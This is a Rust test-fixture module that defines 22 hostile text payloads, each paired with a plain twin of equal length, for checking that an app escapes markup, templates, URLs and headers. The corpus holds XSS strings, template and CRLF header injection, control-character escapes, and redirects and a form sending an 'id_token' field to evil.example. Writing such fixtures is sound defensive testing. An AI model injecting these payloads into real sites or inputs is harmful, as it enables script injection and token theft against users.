//! Texts that want to be markup, script, template, address or more than one header.

/// Begins every mark.
pub const MARK: &str = "Zqx";

/// One text. Its twin is plain and of the same nature: an address where the text is one.
#[derive(Clone, Copy, Debug)]
pub struct Payload {
    /// By which it is found again.
    pub mark: &'static str,
    /// The text.
    pub hostile: &'static str,
}

impl Payload {
    /// The harmless twin, as long as the text: what a limit refuses is refused of both.
    pub fn plain(&self) -> String {
        let mut words = match self.hostile.strip_prefix("https://example.com/") {
            Some(_) => format!("https://example.com/{}", self.mark),
            // A control character is refused where a name is asked for, whoever writes it.
            None if self.hostile.chars().any(char::is_control) => {
                format!("plain\u{7} {} words", self.mark)
            }
            None => format!("plain {} words", self.mark),
        };
        let missing = self.hostile.chars().count().saturating_sub(words.len());
        words.extend(std::iter::repeat_n('s', missing));
        words
    }
}

const fn text(mark: &'static str, hostile: &'static str) -> Payload {
    Payload { mark, hostile }
}

/// Every way out of text that is known to work somewhere.
pub const CORPUS: [Payload; 22] = [
    text("ZqxA", "<script>alert('ZqxA')</script>"),
    text("ZqxB", "\"><img src=x onerror=alert(`ZqxB`)>"),
    text("ZqxC", "'><svg onload=alert(1)>ZqxC"),
    text(
        "ZqxD",
        "</title></style></textarea></script></noscript></td></table><b>ZqxD",
    ),
    text("ZqxE", "<!-- ZqxE --><![CDATA[ x ]]><?php echo 1 ?>"),
    text("ZqxF", "javascript:alert('ZqxF')"),
    text(
        "ZqxG",
        "https://example.com/\"onmouseover=\"alert('ZqxG')\"><b>",
    ),
    text("ZqxH", "{{ 'ZqxH' | upcase }}{% include 'x' %}{{{ x }}}"),
    text("ZqxI", "{%- raw -%}ZqxI{%- endraw -%}{# x #}"),
    text(
        "ZqxJ",
        "\\u003cimg src=ZqxJ\\u003e &lt;b&gt; &#60;i&#62; &amp;lt;u&gt; %3Cs%3E",
    ),
    text("ZqxK", "ZqxK \u{2028} \u{2029} \u{202e} \u{feff} ]]> end"),
    text(
        "ZqxL",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">ZqxL",
    ),
    text(
        "ZqxM",
        "<iframe srcdoc=\"&lt;script&gt;ZqxM&lt;/script&gt;\"></iframe><object data=x><embed src=x>",
    ),
    text(
        "ZqxN",
        "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/ZqxN><link rel=stylesheet href=//e>",
    ),
    text("ZqxO", "${alert(1)}`+'\"--></script><script>ZqxO//"),
    text(
        "ZqxP",
        "ZqxP&cc=evil%40example.com&bcc=x&body=y%0d%0aSubject:x",
    ),
    text("ZqxQ", "\\\"});alert(1);//ZqxQ\\"),
    text(
        "ZqxR",
        "<p hidden style=position:fixed;inset:0 id=status class=now data-claim=delivered dir=rtl>ZqxR",
    ),
    text("ZqxS", "ZqxS\u{0}\u{8}\u{1b}[31m\u{7f} end"),
    text("ZqxT", "//evil.example/ZqxT"),
    text(
        "ZqxU",
        "<form action=//evil.example><input name=id_token autofocus onfocus=alert(1)><button>ZqxU",
    ),
    text("ZqxV", "ZqxV\r\nSet-Cookie: a=b\r\n\r\n<html>"),
];

/// A text as an id of a location may be: at most 64 bytes.
pub fn short(text: &str) -> String {
    let mut short = String::new();
    for char in text.chars() {
        if short.len() + char.len_utf8() > 64 {
            break;
        }
        short.push(char);
    }
    short
}

/// A text as the name of a query's parameter: no `=`, which Shopify's signature cannot carry there.
pub fn name(text: &str) -> String {
    text.replace('=', "")
}
